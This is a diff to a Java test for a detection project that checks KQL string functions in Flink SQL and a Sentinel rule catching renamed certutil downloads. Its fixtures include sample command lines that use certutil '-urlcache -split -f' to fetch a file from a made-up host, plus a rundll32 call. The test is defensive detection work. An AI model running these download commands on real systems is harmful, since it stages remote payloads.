@@ -7,7 +7,9 @@ import static org.assertj.core.api.Assertions.assertThat;
 import dev.bazahunt.rules.CertutilDownloadRule;
 import dev.bazahunt.telemetry.DeviceFileEvent;
 import java.util.ArrayList;
+import java.util.LinkedHashMap;
 import java.util.List;
+import java.util.Map;
 import java.util.Set;
 import java.util.stream.Collectors;
 import org.apache.flink.runtime.testutils.MiniClusterResourceConfiguration;
@@ -22,8 +24,9 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 
 /**
- * The Sentinel certutil query written in Flink SQL with the KQL functions must select exactly the rows
- * {@link CertutilDownloadRule} selects, on a real (mini) cluster with parallelism 2.
+ * The KQL functions in Flink SQL, on a real (mini) cluster with parallelism 2, give the answers that
+ * Microsoft's KQL documentation gives, written out by hand here. The Sentinel certutil query in SQL selects
+ * exactly the rows that Sentinel would, and so does {@link CertutilDownloadRule}.
  */
 class KqlFunctionsSqlTest {
 
@@ -55,12 +58,15 @@ class KqlFunctionsSqlTest {
         tableEnv = StreamTableEnvironment.create(env);
         KqlFunctions.registerAll(tableEnv);
 
+        // Selected: a renamed certutil over http, in any case, even with no file name (null is "").
         events.add(payloadWrite(1, "x8k2.exe", "x8k2.exe  " + DOWNLOAD));
         events.add(payloadWrite(2, "X8K2.EXE", "X8K2.EXE -URLCACHE -SPLIT -F HTTP://PSHE0PXE339.XYZ/XE1T23YM0S.PHP out.dll"));
         events.add(payloadWrite(3, null, "x8k2.exe  " + DOWNLOAD));
+        // Not selected: certutil.exe and cmd.exe themselves (!~ ignores case).
         events.add(payloadWrite(4, "certutil.exe", "certutil.exe " + DOWNLOAD));
         events.add(payloadWrite(5, "CertUtil.EXE", "certutil " + DOWNLOAD));
         events.add(payloadWrite(6, "cmd.exe", "cmd.exe /c x8k2.exe " + DOWNLOAD));
+        // Not selected: https is not the term http; /urlcache is no -urlcache; no command line; splitter.
         events.add(payloadWrite(7, "x8k2.exe", "x8k2.exe -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
         events.add(payloadWrite(8, "x8k2.exe", "x8k2.exe /urlcache /split /f http://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
         events.add(payloadWrite(9, "x8k2.exe", null));
@@ -69,7 +75,7 @@ class KqlFunctionsSqlTest {
     }
 
     @Test
-    void certutilQueryInSqlSelectsExactlyTheRowsOfTheJavaRule() throws Exception {
+    void certutilQueryInSqlSelectsTheRowsSentinelWould() throws Exception {
         DeviceFileEvent[] rows = events.toArray(DeviceFileEvent[]::new);
         Table fileEvents = tableEnv.fromDataStream(env.fromData(DeviceFileEvent.class, rows))
                 .select($("reportId").as("ReportId"),
@@ -83,8 +89,8 @@ class KqlFunctionsSqlTest {
                 .map(event -> event.reportId)
                 .collect(Collectors.toSet());
 
+        assertThat(selectedBySql).containsExactlyInAnyOrder(1L, 2L, 3L);
         assertThat(selectedByRule).containsExactlyInAnyOrder(1L, 2L, 3L);
-        assertThat(selectedBySql).isEqualTo(selectedByRule);
     }
 
     @Test
@@ -107,6 +113,40 @@ class KqlFunctionsSqlTest {
             assertThat(List.of(row.getField(0), row.getField(1), row.getField(2), row.getField(3),
                             row.getField(4), row.getField(5), row.getField(6), row.getField(7)))
                     .containsExactly(true, true, false, false, true, false, true, true);
+        }
+    }
+
+    /** Examples from Microsoft's string operator documentation and the rule's edge cases, answered by hand. */
+    @Test
+    void eachFunctionInSqlGivesTheDocumentedAnswer() throws Exception {
+        Map<String, Boolean> expected = new LinkedHashMap<>();
+        expected.put("KQL_HAS('North America', 'america')", true);           // a whole term, any case
+        expected.put("KQL_HAS('North America', 'ame')", false);              // only the start of a term
+        expected.put("KQL_HAS('x8k2.exe -f https://a/b', 'http')", false);   // https is one term
+        expected.put("KQL_HAS('upd6.exe -urlcache -splitter', 'split')", false);
+        expected.put("KQL_HAS('rundll32.exe C:\\x8k2\\tmp1834.dll,GlobalOut', 'globalout')", true);
+        expected.put("KQL_HAS('X8K2.EXE -URLCACHE -SPLIT', '-urlcache')", true);
+        expected.put("KQL_HAS('x8k2.exe /urlcache /split', '-urlcache')", false);
+        expected.put("KQL_HAS_ANY('North America', 'europe', 'america')", true);
+        expected.put("KQL_HAS_ANY('North America', 'europe', 'asia')", false);
+        expected.put("KQL_HAS_ALL('North America', 'north', 'america')", true);
+        expected.put("KQL_HAS_ALL('North America', 'north', 'asia')", false);
+        expected.put("KQL_CONTAINS('FabriKam', 'BRik')", true);              // any substring, any case
+        expected.put("KQL_CONTAINS('Fabrikam', 'kamf')", false);
+        expected.put("KQL_EQUALS_CI('aBc', 'AbC')", true);
+        expected.put("KQL_EQUALS_CI('aBc', 'aBcd')", false);
+        expected.put("KQL_NOT_EQUALS_CI('aBc', 'xyz')", true);
+        expected.put("KQL_NOT_EQUALS_CI('CMD.EXE', 'cmd.exe')", false);
+
+        Table results = tableEnv.sqlQuery("SELECT " + String.join(", ", expected.keySet()));
+        try (CloseableIterator<Row> rows = results.execute().collect()) {
+            Row row = rows.next();
+            Map<String, Boolean> answered = new LinkedHashMap<>();
+            int field = 0;
+            for (String call : expected.keySet()) {
+                answered.put(call, (Boolean) row.getField(field++));
+            }
+            assertThat(answered).containsExactlyEntriesOf(expected);
         }
     }
 
